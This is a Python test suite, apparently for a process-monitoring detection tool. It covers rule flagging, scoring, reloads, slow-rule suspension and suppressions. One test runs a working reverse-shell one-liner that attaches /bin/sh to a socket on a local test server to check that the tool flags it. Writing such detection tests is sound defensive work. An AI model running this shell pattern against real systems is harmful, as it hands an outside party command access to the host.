# SPDX-License-Identifier: GPL-3.0-or-later
"""Rules at work: what processes do becomes flags and a score, soon, once, and explained."""
import os
import signal
import socket
import subprocess
import time

from harness import Build, show
from test_scan import OwnRecorderCase

OWN = """-- id: test-{name}
-- title: A program is called {name}
-- severity: {severity}
-- techniques: T1036
-- tactics: defense-evasion
-- description: For a test.
SELECT process_id, id AS exec_id, argv AS detail FROM new_execs WHERE argv LIKE '%{name}%'
"""

ADDS_UP = """SELECT count(*) AS wrong FROM traces AS t WHERE t.score IS NOT NULL AND t.score <>
(SELECT coalesce(sum(points), 0) FROM score_reasons WHERE trace_id = t.id)"""


class Rules(OwnRecorderCase):
    def setUp(self):
        super().setUp()
        self.rules = self.path("rules.d")
        os.mkdir(self.rules)
        self.config = f"[rules]\ndirectory = {self.rules}\n"

    def rule(self, name, severity="high", text=OWN):
        self.write(os.path.join("rules.d", name + ".sql"), text.format(name=name, severity=severity))

    def do(self, name):
        process = self.start(["/bin/true", name])
        process.wait()
        return process.pid

    def flags(self, name, count):
        return self.store.wait("SELECT * FROM flags WHERE rule = ?1 ORDER BY id", "test-" + name,
                               until=lambda rows: len(rows) >= count)

    def adds_up(self):
        self.assertEqual(self.store.rows(ADDS_UP), [{"wrong": 0}])

    def test_an_exec_is_flagged_soon_and_the_trace_says_why(self):
        self.rule("needle")
        self.record(config=self.config)
        self.do("hay")
        began = time.time_ns()
        pid = self.do("needle")
        flag = self.one(self.flags("needle", 1), "flag")
        self.assertLess(flag["flagged_at"] - began, 2 * 10**9)
        self.assertLess(abs(flag["at"] - began), 2 * 10**9)
        process = self.process(pid)
        self.same(flag, process_id=process["id"], trace_id=process["trace_id"], severity="high",
                  techniques='["T1036"]', detail='["/bin/true","needle"]', suppressed_by=None)
        trace = self.one(self.store.wait("SELECT * FROM traces WHERE id = ?1 AND score > 0",
                                         process["trace_id"]), "trace")
        self.same(trace, score=55, severity="high", flag_count=1, tactics='["defense-evasion"]')
        reason = self.one(self.store.rows("SELECT * FROM score_reasons WHERE trace_id = ?1",
                                          trace["id"]), "reason")
        self.same(reason, flag_id=flag["id"], points=55)
        self.stop()
        # The model has written the trace again at its end, and left the score alone.
        self.same(self.one(self.store.rows("SELECT * FROM traces WHERE id = ?1", trace["id"]),
                           "trace"), score=55, flag_count=1)
        # How rules fared is told at the end too, however short the run was.
        rule = self.one(self.store.rows("SELECT * FROM rules WHERE name = 'test-needle'"), "rule")
        self.same(rule, hits=1)
        self.assertGreaterEqual(rule["runs"], 1)
        self.assertGreater(rule["busy_ns"], 0)
        self.adds_up()

    def test_a_shell_on_a_connection_is_flagged(self):
        self.record(config=self.config)
        server = socket.create_server(("127.0.0.1", 0))
        address = server.getsockname()
        process = self.start(["/usr/bin/python3", "-c",
                              "import os, socket, sys\n"
                              f"s = socket.create_connection({address!r})\n"
                              "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
                              "os.execv('/bin/sh', ['sh'])"])
        with server.accept()[0] as other:
            other.sendall(b"exit\n")
            process.wait()
        server.close()
        flag = self.one(self.store.wait("SELECT * FROM flags WHERE rule = 'shell-on-socket'"), "flag")
        connection = self.one(self.store.rows("SELECT * FROM connections WHERE id = ?1",
                                              flag["connection_id"]), "connection")
        self.same(connection, remote_port=address[1], direction="out")
        self.same(flag, process_id=self.process(process.pid)["id"], severity="critical")

    def test_nothing_is_flagged_twice_after_a_restart_or_a_kill(self):
        self.rule("needle")
        self.record(config=self.config)
        self.do("needle")
        first = self.one(self.flags("needle", 1), "flag")
        self.stop()
        self.record(config=self.config)
        self.do("needle")
        rows = self.flags("needle", 2)
        self.assertEqual([row["id"] for row in rows][0], first["id"])
        self.recorder.kill()
        self.record(config=self.config)
        self.do("needle")
        rows = self.flags("needle", 3)
        self.assertEqual(len(rows), 3, show(rows))
        self.assertEqual(len({row["process_id"] for row in rows}), 3, show(rows))
        self.adds_up()

    def test_rules_are_read_again_and_a_wrong_one_is_left_out(self):
        self.record(config=self.config)
        self.rule("needle")
        self.rule("broken", text=OWN.replace("WHERE argv", "WHERE nought"))
        self.recorder.process.send_signal(signal.SIGHUP)
        states = self.store.wait("SELECT name, state, error FROM rules WHERE name LIKE 'test-%' "
                                 "ORDER BY name", until=lambda rows: len(rows) == 2)
        self.same(states[1], name="test-needle", state="active", error=None)
        self.same(states[0], name="test-broken", state="failed",
                  error=f"{self.rules}/broken.sql:7: no such column: nought")
        self.assertTrue(self.recorder.says(["rule test-broken is not run", "broken.sql:7:"]))
        self.do("needle")
        self.flags("needle", 1)
        os.unlink(os.path.join(self.rules, "broken.sql"))
        self.stop()
        self.record(config=self.config)
        self.store.wait("SELECT 1 FROM rules WHERE name = 'test-broken' AND state = 'removed'")
        failed = self.store.rows("SELECT name, error FROM rules WHERE state = 'failed'")
        self.none(failed, "built-in rule that fails")

    def test_a_slow_rule_harms_nobody(self):
        self.config += "budget_ms = 50\n"
        self.rule("needle")
        self.rule("slow", text=OWN.replace(
            "WHERE", "WHERE (WITH RECURSIVE c (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM c) "
            "SELECT count(*) FROM c) AND"))
        self.record(config=self.config)
        for count in range(1, 6):
            self.do("needle")
            self.flags("needle", count)
        self.do("hay")
        row = self.one(self.store.wait("SELECT * FROM rules WHERE name = 'test-slow' AND state = "
                                       "'suspended'", seconds=30), "rule")
        self.same(row, runs=3)
        self.assertTrue(self.recorder.says(["rule test-slow is not run"]))
        self.assertIn("slow.sql:7: took more than 50 ms 3 times in a row", row["error"])

    def test_a_rule_can_ask_what_was_never_seen_here(self):
        self.config += "warmup_h = 0\n"
        self.write("rules.d/new.sql", "-- id: test-new\n-- title: t\n-- severity: low\n"
                   "-- description: d\nSELECT process_id, a || ' ' || b AS detail FROM new_pairs\n"
                   "WHERE novel = 1 AND kind = 'user-program' AND b LIKE '%/copy'\n")
        self.write("copy", "")
        with open("/bin/true", "rb") as source, open(self.path("copy"), "wb") as target:
            target.write(source.read())
        os.chmod(self.path("copy"), 0o755)
        self.record(config=self.config)
        pids = []
        for _ in range(2):
            process = self.start([self.path("copy")])
            process.wait()
            pids.append(process.pid)
        flag = self.one(self.store.wait("SELECT * FROM flags WHERE rule = 'test-new'"), "flag")
        self.same(flag, process_id=self.process(pids[0])["id"], detail=f"root {self.path('copy')}")
        self.process(pids[1])
        self.stop()
        self.same(self.one(self.store.rows("SELECT * FROM first_seen WHERE kind = 'user-program' "
                                           "AND b = ?1", self.path("copy")), "pair"),
                  novel=1, process_id=flag["process_id"], trace_id=flag["trace_id"])

    def test_a_suppression_counts_within_seconds(self):
        self.rule("needle")
        self.record(config=self.config)
        process = self.process(self.do("needle"))
        self.flags("needle", 1)
        trace = "SELECT * FROM traces WHERE id = ?1"
        self.store.wait(trace + " AND score = 55", process["trace_id"])
        subprocess.run([Build.program("spyq"), "--store", self.path("spyq.db"), "suppress",
                        "rule:test-needle", "program:*/true", "for a test"], check=True,
                       stdout=subprocess.DEVNULL)
        row = self.one(self.store.wait("SELECT * FROM flags WHERE suppressed_by IS NOT NULL"), "flag")
        self.same(row, process_id=process["id"], suppressed_by=1)
        self.same(self.one(self.store.wait(trace + " AND score = 0", process["trace_id"]), "trace"),
                  flag_count=0, severity=None)
        self.do("needle")
        self.assertEqual({row["suppressed_by"] for row in self.flags("needle", 2)}, {1})
        self.adds_up()
